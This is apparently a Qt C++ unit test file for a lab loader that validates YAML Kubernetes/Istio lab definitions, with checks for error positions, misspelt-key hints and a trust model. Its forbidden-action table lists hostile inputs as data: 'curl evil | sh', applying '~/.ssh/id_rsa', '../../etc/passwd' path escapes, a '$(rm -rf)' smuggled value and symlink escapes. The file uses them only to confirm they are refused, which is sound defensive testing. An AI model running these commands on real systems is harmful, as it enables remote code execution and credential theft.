// LabLoader: the built-in lab loads; broken labs give each error with its line and column (and
// the nearest key for a misspelling); labs that try what the trust model forbids are refused.
#include "core/cli/Cli.h"
#include "core/lab/LabCatalog.h"
#include "core/lab/LabLoader.h"
#include "core/lab/LabPlan.h"
#include "core/lab/LabTrust.h"

#include <QBuffer>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::Literals::StringLiterals;
using namespace obslab;

namespace {

const QByteArray kHeader =
    "obslab-lab: 1\nid: t\ntitle: T\nvariables:\n  namespace: demo\nsteps:\n";

QString builtinLab()
{
    return QString::fromUtf8(OBSLAB_SOURCE_DIR) + u"/resources/labs/tracing-jaeger/lab.yaml"_s;
}

}  // namespace

class TestLabLoader : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void builtinLabLoads();
    void broken_data();
    void broken();
    void forbidden_data();
    void forbidden();
    void everyErrorIsReported();
    void nearestKey_data();
    void nearestKey();
    void versionCondition_data();
    void versionCondition();
    void manifestPathsStayInside();
    void symlinksOutOfTheLabAreRefused_data();
    void symlinksOutOfTheLabAreRefused();
    void plan();
    void catalogAndCli();
    void lintCli();
};

void TestLabLoader::builtinLabLoads()
{
    const LabLoadResult r = LabLoader::loadFile(builtinLab());
    for (const LabIssue& e : r.errors)
        qWarning("%s", qPrintable(e.toString()));
    QVERIFY(r.ok());
    const Lab& lab = *r.lab;
    QCOMPARE(lab.id, u"tracing-jaeger"_s);
    QCOMPARE(lab.formatVersion, 1);
    QVERIFY(lab.estimatedMinutes > 0);
    QCOMPARE(lab.variable(u"namespace"_s), u"default"_s);
    QVERIFY(lab.steps.size() >= 9);
    QVERIFY(lab.step(u"traced-request"_s));
    QVERIFY(!lab.teardown.isEmpty());
    // The tracing variant is chosen by Istio version: one install before 1.22, one from 1.22 on.
    const LabStep* tracing = lab.step(u"enable-tracing"_s);
    QVERIFY(tracing);
    int legacy = 0;
    int modern = 0;
    for (const LabAction& a : tracing->actions) {
        legacy += a.whenIstio.matches(u"1.21.2"_s) ? 1 : 0;
        modern += a.whenIstio.matches(u"1.24.0"_s) ? 1 : 0;
    }
    QCOMPARE(legacy, 1);
    QCOMPARE(modern, 2);
    // Every check says what to do when it fails.
    for (const LabStep& s : lab.steps)
        for (const LabCheck& c : s.checks)
            QVERIFY2(!c.hint.trimmed().isEmpty(), qPrintable(s.id));
}

void TestLabLoader::broken_data()
{
    QTest::addColumn<QByteArray>("yaml");
    QTest::addColumn<int>("line");
    QTest::addColumn<int>("column");
    QTest::addColumn<QString>("message");

    QTest::newRow("empty") << QByteArray() << 1 << 1 << u"the file is empty"_s;
    QTest::newRow("not-a-mapping")
        << QByteArray("- a\n- b\n") << 1 << 1 << u"must be a YAML mapping"_s;
    QTest::newRow("bad-yaml") << QByteArray("obslab-lab: 1\nid: [unclosed\n") << 3 << 1
                              << u"not valid YAML"_s;
    QTest::newRow("tab-indent") << QByteArray("obslab-lab: 1\nsteps:\n\t- id: x\n") << 3 << 2
                                << u"not valid YAML"_s;
    QTest::newRow("no-version") << QByteArray("id: t\ntitle: T\nsteps: [{id: a, title: A}]\n") << 1
                                << 1 << u"must start with 'obslab-lab: 1'"_s;
    QTest::newRow("future-version")
        << QByteArray("obslab-lab: 2\nid: t\ntitle: T\nsteps: [{id: a, title: A}]\n") << 1 << 13
        << u"format version 2 is not supported"_s;
    QTest::newRow("misspelt-top-key")
        << QByteArray("obslab-lab: 1\nid: t\ntitel: T\nsteps: [{id: a, title: A}]\n") << 3 << 1
        << u"unknown key 'titel' in the lab; did you mean 'title'?"_s;
    QTest::newRow("missing-steps")
        << QByteArray("obslab-lab: 1\nid: t\ntitle: T\n") << 1 << 1 << u"the lab needs 'steps'"_s;
    QTest::newRow("bad-id")
        << QByteArray("obslab-lab: 1\nid: My Lab\ntitle: T\nsteps: [{id: a, title: A}]\n") << 2 << 5
        << u"may contain only lower-case letters"_s;
    QTest::newRow("misspelt-action-key")
        << kHeader + "- id: a\n  title: A\n  actions:\n  - kubect: [get, pods]\n"
        << 10 << 5 << u"unknown key 'kubect' in an action; did you mean 'kubectl'?"_s;
    QTest::newRow("misspelt-check-key")
        << kHeader + "- id: a\n  title: A\n  checks:\n  - rolloutReady: {deployment: x}\n    hnt: "
                     "fix it\n"
        << 11 << 5 << u"unknown key 'hnt' in a check; did you mean 'hint'?"_s;
    QTest::newRow("misspelt-body-key")
        << kHeader + "- id: a\n  title: A\n  actions:\n  - followLogs: {selectr: app=x}\n"
        << 10 << 18 << u"unknown key 'selectr' in 'followLogs'; did you mean 'selector'?"_s;
    QTest::newRow("check-only-misspelt-kind")
        << kHeader + "- id: a\n  title: A\n  checks:\n  - rolloutRedy: {deployment: x}\n"
        << 10 << 5 << u"unknown key 'rolloutRedy' in a check; did you mean 'rolloutReady'?"_s;
    QTest::newRow("check-without-hint")
        << kHeader + "- id: a\n  title: A\n  checks:\n  - rolloutReady: {deployment: x}\n"
        << 10 << 5 << u"a check needs 'hint'"_s;
    QTest::newRow("two-kinds")
        << kHeader +
               "- id: a\n  title: A\n  actions:\n  - apply: x.yaml\n    kubectl: [get, pods]\n"
        << 10 << 5 << u"exactly one kind"_s;
    QTest::newRow("duplicate-step") << kHeader + "- id: a\n  title: A\n- id: a\n  title: B\n"
                                    << 9 << 7 << u"duplicate step id 'a'"_s;
    QTest::newRow("duplicate-key") << kHeader + "- id: a\n  title: A\n  title: B\n"
                                   << 9 << 3 << u"duplicate key 'title'"_s;
    QTest::newRow("unknown-variable")
        << kHeader +
               "- id: a\n  title: A\n  actions:\n  - kubectl: [get, pods, -n, \"${namespce}\"]\n"
        << 10 << 30 << u"unknown variable '${namespce}'; did you mean '${namespace}'?"_s;
    QTest::newRow("bad-duration") << kHeader + "- id: a\n  title: A\n  checks:\n  - rolloutReady: "
                                               "{deployment: x}\n    hint: h\n    timeout: soon\n"
                                  << 12 << 14 << u"must be a duration"_s;
    QTest::newRow("bad-regex") << kHeader + "- id: a\n  title: A\n  checks:\n  - logsMatch: "
                                            "{selector: app=x, pattern: \"a(b\"}\n    hint: h\n"
                               << 10 << 43 << u"not a valid regular expression"_s;
    QTest::newRow("bad-version-condition")
        << kHeader + "- id: a\n  title: A\n  actions:\n  - kubectl: [version]\n    when: {istio: "
                     "newest}\n"
        << 11 << 19 << u"is not a version condition"_s;
    QTest::newRow("trace-ref-unknown")
        << kHeader + "- id: a\n  title: A\n  actions:\n  - id: req\n    tracedRequest: {from: f, "
                     "url: \"http://b\"}\n  - openTrace: {action: rq}\n"
        << 12 << 25 << u"no earlier action has the id 'rq'; did you mean 'req'?"_s;
    QTest::newRow("trace-ref-not-request")
        << kHeader + "- id: a\n  title: A\n  actions:\n  - id: v\n    kubectl: [version]\n  "
                     "checks:\n  - jaegerHasTrace: {action: v}\n    hint: h\n"
        << 13 << 30 << u"is not a tracedRequest action"_s;
    QTest::newRow("traced-request-without-id")
        << kHeader +
               "- id: a\n  title: A\n  actions:\n  - tracedRequest: {from: f, url: \"http://b\"}\n"
        << 10 << 5 << u"needs an 'id'"_s;
    QTest::newRow("manifest-missing")
        << kHeader + "- id: a\n  title: A\n  actions:\n  - apply: nowhere.yaml\n"
        << 10 << 12 << u"'nowhere.yaml' not found beside the lab"_s;
    QTest::newRow("args-not-a-list")
        << kHeader + "- id: a\n  title: A\n  actions:\n  - kubectl: {get: pods}\n"
        << 10 << 14 << u"must be a list"_s;
    QTest::newRow("url-not-https")
        << kHeader +
               "- id: a\n  title: A\n  actions:\n  - apply: {url: \"http://example.com/x.yaml\"}\n"
        << 10 << 18 << u"must be an https:// URL"_s;
    QTest::newRow("invalid-utf8")
        << QByteArray(
               "obslab-lab: 1\nid: t\ntitle: \"\xff\xfe\"\nsteps: [{id: a, title: A, bogus: 1}]\n")
        << 4 << 27 << u"unknown key 'bogus' in a step"_s;
}

void TestLabLoader::broken()
{
    QFETCH(QByteArray, yaml);
    QFETCH(int, line);
    QFETCH(int, column);
    QFETCH(QString, message);
    QTemporaryDir dir;
    const LabLoadResult r = LabLoader::loadBytes(yaml, u"lab.yaml"_s, dir.path());
    QVERIFY(!r.ok());
    QStringList all;
    for (const LabIssue& e : r.errors)
        all << e.toString();
    bool found = false;
    for (const LabIssue& e : r.errors) {
        if (e.message.contains(message)) {
            found = true;
            QCOMPARE(e.file, u"lab.yaml"_s);
            QVERIFY2(e.pos.line == line && e.pos.column == column,
                     qPrintable(u"expected %1:%2 for '%3', got: %4"_s.arg(line).arg(column).arg(
                         message, all.join(u" | "))));
        }
    }
    QVERIFY2(found, qPrintable(all.join(u" | ")));
}

void TestLabLoader::forbidden_data()
{
    QTest::addColumn<QByteArray>("action");
    QTest::addColumn<int>("column");
    QTest::addColumn<QString>("message");
    QTest::newRow("plugin") << QByteArray("kubectl: [ctx, prod]") << 15
                            << u"'kubectl ctx' is not allowed"_s;
    QTest::newRow("config") << QByteArray("kubectl: [config, use-context, prod]") << 15
                            << u"'kubectl config' is not allowed"_s;
    QTest::newRow("exec") << QByteArray("kubectl: [exec, deploy/x, --, sh]") << 15
                          << u"'kubectl exec' is not allowed"_s;
    QTest::newRow("kubeconfig") << QByteArray("kubectl: [get, pods, --kubeconfig, /tmp/k]") << 26
                                << u"'--kubeconfig' is not allowed"_s;
    QTest::newRow("context-eq") << QByteArray("kubectl: [get, pods, --context=prod]") << 26
                                << u"'--context' is not allowed"_s;
    QTest::newRow("as") << QByteArray("kubectl: [get, secrets, --as, admin]") << 29
                        << u"'--as' is not allowed"_s;
    QTest::newRow("token") << QByteArray("kubectl: [get, pods, --token=abc]") << 26
                           << u"'--token' is not allowed"_s;
    QTest::newRow("server-short") << QByteArray("kubectl: [get, pods, -s, https://evil]") << 26
                                  << u"'-s' is not allowed"_s;
    QTest::newRow("local-file") << QByteArray("kubectl: [apply, -f, /home/me/.ssh/id_rsa]") << 26
                                << u"files must be relative to the lab's folder"_s;
    QTest::newRow("flag-first") << QByteArray("kubectl: [--context, prod, get, pods]") << 15
                                << u"must be the kubectl subcommand"_s;
    QTest::newRow("rollout-undo") << QByteArray("kubectl: [rollout, undo, deploy/x]") << 24
                                  << u"'kubectl rollout' is allowed only as"_s;
    QTest::newRow("istioctl-kubeconfig-c")
        << QByteArray("istioctl: [version, -c, /tmp/k]") << 25 << u"'-c' is not allowed"_s;
    QTest::newRow("istioctl-dashboard") << QByteArray("istioctl: [dashboard, kiali]") << 16
                                        << u"'istioctl dashboard' is not allowed"_s;
    QTest::newRow("env-key") << QByteArray("kubectl: [get, pods]\n    env: {KUBECONFIG: /tmp/k}")
                             << 5 << u"cannot set environment variables"_s;
    QTest::newRow("shell-key") << QByteArray("shell: \"curl evil | sh\"") << 5
                               << u"cannot run a local shell"_s;
    QTest::newRow("manifest-escape")
        << QByteArray("apply: ../../etc/passwd") << 12 << u"must be relative to the lab's folder"_s;
    QTest::newRow("manifest-absolute") << QByteArray("istioInstall: /etc/passwd") << 19
                                       << u"must be relative to the lab's folder"_s;
    QTest::newRow("empty-label-pair")
        << QByteArray("kubectl: [label, namespace, default, istio-injection=enabled, \"\"]") << 67
        << u"'' is not KEY=VALUE or KEY- (a label)"_s;
    QTest::newRow("variable-to-flag") << QByteArray("kubectl: [get, pods, \"${evil}\"]") << 26
                                      << u"'--kubeconfig' is not allowed"_s;
}

void TestLabLoader::forbidden()
{
    QFETCH(QByteArray, action);
    QFETCH(int, column);
    QFETCH(QString, message);
    // ${evil} has a default that is itself refused; the flag check sees the substituted value too.
    const QByteArray yaml =
        "obslab-lab: 1\nid: t\ntitle: T\nvariables:\n  evil: --kubeconfig\nsteps:\n"
        "- id: a\n  title: A\n  actions:\n  - " +
        action + "\n";
    const LabLoadResult r = LabLoader::loadBytes(yaml, u"evil.yaml"_s, QString());
    QVERIFY(!r.ok());
    QStringList all;
    bool found = false;
    for (const LabIssue& e : r.errors) {
        all << e.toString();
        if (e.message.contains(message)) {
            found = true;
            QVERIFY2(e.pos.line == (action.contains("\n") ? 11 : 10) && e.pos.column == column,
                     qPrintable(e.toString()));
        }
    }
    QVERIFY2(found, qPrintable(all.join(u" | ")));
}

void TestLabLoader::everyErrorIsReported()
{
    const QByteArray yaml = "obslab-lab: 1\nid: t\ntitle: T\nsteps:\n"
                            "- id: a\n  titel: A\n  actions:\n  - kubectl: [get, --token=x]\n"
                            "  checks:\n  - rolloutReady: {deploymnt: x}\n    hint: h\n";
    const LabLoadResult r = LabLoader::loadBytes(yaml, u"many.yaml"_s);
    QStringList lines;
    for (const LabIssue& e : r.errors)
        lines << e.toString();
    QVERIFY2(lines.size() >= 4, qPrintable(lines.join(u'\n')));
    QVERIFY(lines.join(u'\n').contains(
        u"many.yaml:6:3: unknown key 'titel' in a step; did you mean 'title'?"_s));
    QVERIFY(lines.join(u'\n').contains(u"many.yaml:8:20: '--token' is not allowed"_s));
    QVERIFY(lines.join(u'\n').contains(u"many.yaml:10:20: unknown key 'deploymnt'"_s));
    // Sorted by position, as an editor expects.
    for (int i = 1; i < r.errors.size(); ++i)
        QVERIFY(std::pair(r.errors[i - 1].pos.line, r.errors[i - 1].pos.column) <=
                std::pair(r.errors[i].pos.line, r.errors[i].pos.column));
}

void TestLabLoader::nearestKey_data()
{
    QTest::addColumn<QString>("key");
    QTest::addColumn<QString>("expected");
    const QStringList known{u"rolloutReady"_s, u"podsHaveSidecar"_s, u"logsMatch"_s, u"hint"_s};
    QTest::newRow("case") << u"rolloutready"_s << u"rolloutReady"_s;
    QTest::newRow("typo") << u"podsHaveSidcar"_s << u"podsHaveSidecar"_s;
    QTest::newRow("short") << u"hnt"_s << u"hint"_s;
    QTest::newRow("unrelated") << u"banana"_s << QString();
    QTest::newRow("empty") << QString() << QString();
}

void TestLabLoader::nearestKey()
{
    QFETCH(QString, key);
    QFETCH(QString, expected);
    const QStringList known{u"rolloutReady"_s, u"podsHaveSidecar"_s, u"logsMatch"_s, u"hint"_s};
    QCOMPARE(LabLoader::nearestKey(key, known), expected);
}

void TestLabLoader::versionCondition_data()
{
    QTest::addColumn<QString>("condition");
    QTest::addColumn<QString>("version");
    QTest::addColumn<bool>("matches");
    QTest::newRow("at-least-yes") << u">=1.22"_s << u"1.24.0"_s << true;
    QTest::newRow("at-least-equal") << u">=1.22"_s << u"1.22.0"_s << true;
    QTest::newRow("at-least-no") << u">=1.22"_s << u"1.21.6"_s << false;
    QTest::newRow("below") << u"<1.22"_s << u"1.21.6"_s << true;
    QTest::newRow("below-no") << u"<1.22"_s << u"1.22.1"_s << false;
    QTest::newRow("exact") << u"1.24"_s << u"1.24.3"_s << true;
    QTest::newRow("unknown-version") << u">=1.22"_s << QString() << false;
    QTest::newRow("any") << QString() << QString() << true;
    QTest::newRow("minor-10") << u">=1.9"_s << u"1.10.0"_s << true;
}

void TestLabLoader::versionCondition()
{
    QFETCH(QString, condition);
    QFETCH(QString, version);
    QFETCH(bool, matches);
    VersionCondition c;
    QVERIFY(VersionCondition::parse(condition, &c));
    QCOMPARE(c.matches(version), matches);
}

void TestLabLoader::manifestPathsStayInside()
{
    QVERIFY(LabTrust::isSafeRelativePath(u"manifests/a.yaml"_s));
    QVERIFY(!LabTrust::isSafeRelativePath(u"../a.yaml"_s));
    QVERIFY(!LabTrust::isSafeRelativePath(u"manifests/../../a.yaml"_s));
    QVERIFY(!LabTrust::isSafeRelativePath(u"/etc/passwd"_s));
    QVERIFY(!LabTrust::isSafeRelativePath(u"~/x.yaml"_s));
    QVERIFY(LabTrust::isSafeVariableValue(u"istio-system"_s));
    QVERIFY(!LabTrust::isSafeVariableValue(u"--as=admin"_s));
    QVERIFY(!LabTrust::isSafeVariableValue(u"a b"_s));
    QVERIFY(!LabTrust::isSafeVariableValue(u"$(rm -rf)"_s));
}

void TestLabLoader::symlinksOutOfTheLabAreRefused_data()
{
    QTest::addColumn<QString>("path");  // as the lab names it
    QTest::addColumn<bool>("outside");
    // manifests/app.yaml -> ../../outside/secret.yaml (a file link out of the lab's folder)
    QTest::newRow("file-link-out") << u"manifests/app.yaml"_s << true;
    // linked -> ../outside (a folder link); linked/secret.yaml is outside
    QTest::newRow("dir-link-out") << u"linked/secret.yaml"_s << true;
    // manifests/same.yaml -> ok.yaml: a link that stays inside is fine
    QTest::newRow("link-inside") << u"manifests/same.yaml"_s << false;
}

// A manifest path that resolves (realpath) outside the lab's folder through a symbolic link, a
// file link or a linked folder on the way, is refused by lint (FILE:LINE:COL), by `lab plan` when
// a --set value points there, and `lab run --yes` runs nothing. A link inside the folder is fine.
void TestLabLoader::symlinksOutOfTheLabAreRefused()
{
    QFETCH(QString, path);
    QFETCH(bool, outside);
    QTemporaryDir root;
    QVERIFY(root.isValid());
    const QDir dir(root.path());
    QVERIFY(dir.mkpath(u"outside"_s) && dir.mkpath(u"lab/manifests"_s));
    const QByteArray manifest =
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n  namespace: demo\n";
    for (const QString& name : {u"outside/secret.yaml"_s, u"lab/manifests/ok.yaml"_s}) {
        QFile f(dir.filePath(name));
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write(manifest) == manifest.size());
    }
    QVERIFY(QFile::link(u"../../outside/secret.yaml"_s, dir.filePath(u"lab/manifests/app.yaml"_s)));
    QVERIFY(QFile::link(u"../outside"_s, dir.filePath(u"lab/linked"_s)));
    QVERIFY(QFile::link(u"ok.yaml"_s, dir.filePath(u"lab/manifests/same.yaml"_s)));
    // Line 9 names the file directly; the variable's default is a plain file inside.
    const QByteArray lab = kHeader.left(kHeader.indexOf("steps:")) +
                           "  manifest: manifests/ok.yaml\nsteps:\n- id: a\n  title: A\n"
                           "  actions:\n  - apply: " +
                           path.toUtf8() + "\n  - kubectl: [apply, -f, \"${manifest}\"]\n";
    const QString labPath = dir.filePath(u"lab/lab.yaml"_s);
    {
        QFile f(labPath);
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write(lab) == lab.size());
    }
    const QString real = QFileInfo(dir.filePath(u"outside/secret.yaml"_s)).canonicalFilePath();

    // lint
    const LabLoadResult r = LabLoader::loadFile(labPath);
    QCOMPARE(r.ok(), !outside);
    if (outside) {
        QCOMPARE(r.errors.size(), 1);
        QCOMPARE(r.errors.first().pos.line, 11);
        QCOMPARE(r.errors.first().pos.column, 12);
        QVERIFY2(r.errors.first().message.contains(u"outside the lab's folder"_s) &&
                     r.errors.first().message.contains(real),
                 qPrintable(r.errors.first().message));
    } else {
        const LabPlan plan = LabPlan::build(*r.lab);
        QVERIFY(plan.problems.isEmpty());
        QCOMPARE(
            plan.filesRead,
            QStringList{QFileInfo(dir.filePath(u"lab/manifests/ok.yaml"_s)).canonicalFilePath()});
    }

    QBuffer in, out, err;
    in.open(QIODevice::ReadOnly);
    out.open(QIODevice::WriteOnly);
    err.open(QIODevice::WriteOnly);
    cli::Dispatcher d;
    // lab plan (the file itself, and a --set value on a lab that is otherwise clean)
    const int planCode = d.run({u"lab"_s, u"plan"_s, labPath}, {&in, &out, &err});
    QCOMPARE(planCode, outside ? 1 : 0);
    const QString plainLab = dir.filePath(u"lab/plain.yaml"_s);
    {
        QByteArray plain = lab;
        plain.replace(QByteArray(QByteArray("apply: ") + path.toUtf8()),
                      QByteArray("apply: manifests/ok.yaml"));
        QFile f(plainLab);
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write(plain) == plain.size());
    }
    err.buffer().clear();
    const int setCode = d.run({u"lab"_s, u"plan"_s, plainLab, u"--set"_s, u"manifest="_s + path},
                              {&in, &out, &err});
    QCOMPARE(setCode, outside ? 1 : 0);
    if (outside)
        QVERIFY2(err.data().contains("outside the lab's folder") &&
                     err.data().contains(QByteArray(plainLab.toUtf8() + ":12:")),
                 err.data().constData());
    // lab run --yes: refused before anything runs (the kubectl named here does not exist, so
    // reaching the cluster step would print a different error).
    if (outside) {
        err.buffer().clear();
        out.buffer().clear();
        QCOMPARE(d.run({u"lab"_s, u"run"_s, labPath, u"--yes"_s, u"--kubectl"_s,
                        root.path() + u"/no-kubectl"_s},
                       {&in, &out, &err}),
                 1);
        QVERIFY2(err.data().contains("outside the lab's folder"), err.data().constData());
        QVERIFY(!out.data().contains("$ "));
        QVERIFY(!err.data().contains("no-kubectl"));
    }
}

void TestLabLoader::plan()
{
    const LabLoadResult r = LabLoader::loadFile(builtinLab());
    QVERIFY(r.ok());
    const LabPlan p = LabPlan::build(*r.lab);
    const QString text = p.toText(*r.lab);
    QVERIFY2(p.creates.contains(u"Deployment frontend (namespace default)"_s), qPrintable(text));
    QVERIFY(p.creates.contains(u"Deployment jaeger (namespace istio-system)"_s));
    QVERIFY(p.creates.contains(u"Telemetry mesh-default (namespace istio-system)"_s));
    QVERIFY(p.deletes.contains(u"Deployment backend (namespace default) [deletes]"_s));
    QVERIFY(text.contains(u"restart deployment frontend"_s));
    QVERIFY(
        text.contains(u"kubectl label namespace default istio-injection=enabled --overwrite"_s));
    QVERIFY(text.contains(u"istioctl install"_s));
    // Variables change the plan.
    const LabPlan other = LabPlan::build(*r.lab, {{u"namespace"_s, u"lab"_s}});
    QVERIFY(other.creates.contains(u"Deployment frontend (namespace lab)"_s));
}

void TestLabLoader::catalogAndCli()
{
    const auto labs = LabCatalog::list();
    QVERIFY(!labs.isEmpty());
    QCOMPARE(labs.first().id, u"tracing-jaeger"_s);
    QVERIFY(labs.first().error.isEmpty());
    QCOMPARE(LabCatalog::resolve(u"tracing-jaeger"_s), labs.first().path);
    QVERIFY(LabCatalog::resolve(u"no-such-lab"_s).isEmpty());

    QBuffer in, out, err;
    in.open(QIODevice::ReadOnly);
    out.open(QIODevice::WriteOnly);
    err.open(QIODevice::WriteOnly);
    cli::Dispatcher d;
    QCOMPARE(d.run({u"lab"_s, u"list"_s}, {&in, &out, &err}), 0);
    QVERIFY(out.data().startsWith("tracing-jaeger  40 min  Distributed tracing"));
}

void TestLabLoader::lintCli()
{
    QTemporaryDir dir;
    const QString bad = dir.filePath(u"bad.yaml"_s);
    QFile f(bad);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write("obslab-lab: 1\nid: t\ntitle: T\nsteps:\n- id: a\n  title: A\n  actions:\n  - kubectl: "
            "[config, view]\n");
    f.close();
    QBuffer in, out, err;
    in.open(QIODevice::ReadOnly);
    out.open(QIODevice::WriteOnly);
    err.open(QIODevice::WriteOnly);
    cli::Dispatcher d;
    QCOMPARE(d.run({u"lab"_s, u"lint"_s, bad}, {&in, &out, &err}), 1);
    QVERIFY2(out.data().startsWith(
                 (bad + u":8:15: 'kubectl config' is not allowed in a lab"_s).toUtf8()),
             out.data().constData());
    QBuffer out2;
    out2.open(QIODevice::WriteOnly);
    QCOMPARE(d.run({u"lab"_s, u"lint"_s, builtinLab()}, {&in, &out2, &err}), 0);
    QVERIFY(out2.data().contains(": ok (tracing-jaeger"));
    // Without --yes, run prints the plan and runs nothing.
    QBuffer out3;
    out3.open(QIODevice::WriteOnly);
    QCOMPARE(d.run({u"lab"_s, u"plan"_s, u"tracing-jaeger"_s}, {&in, &out3, &err}), 0);
    QVERIFY(out3.data().contains("Delete (teardown included)"));
}

QTEST_GUILESS_MAIN(TestLabLoader)
#include "tst_labloader.moc"
